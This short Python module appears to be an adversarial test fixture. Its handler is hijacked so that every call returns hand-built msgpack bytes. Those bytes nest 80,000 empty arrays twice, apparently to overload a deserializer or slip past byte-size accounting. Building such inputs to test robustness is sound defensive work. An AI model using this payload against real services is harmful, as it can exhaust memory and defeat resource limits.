"""Answers every question with lists of arrays that hold nothing, and would count as no bytes"""

from facts import *

EMPTY = b"\x94\xa5array\xa3<f8\x91\x00\xc4\x00"
LIST = b"\x93\xa5items\xa4list\xdd" + (80_000).to_bytes(4, "big") + EMPTY * 80_000
MANY = b"\x84\xa4type\xa8returned\xa5value\x93\xa5items\xa4list\x92" + LIST * 2 + b"\xa5after\x90\xa8warnings\x90"


def vault(x):
    take_over(lambda number: MANY)
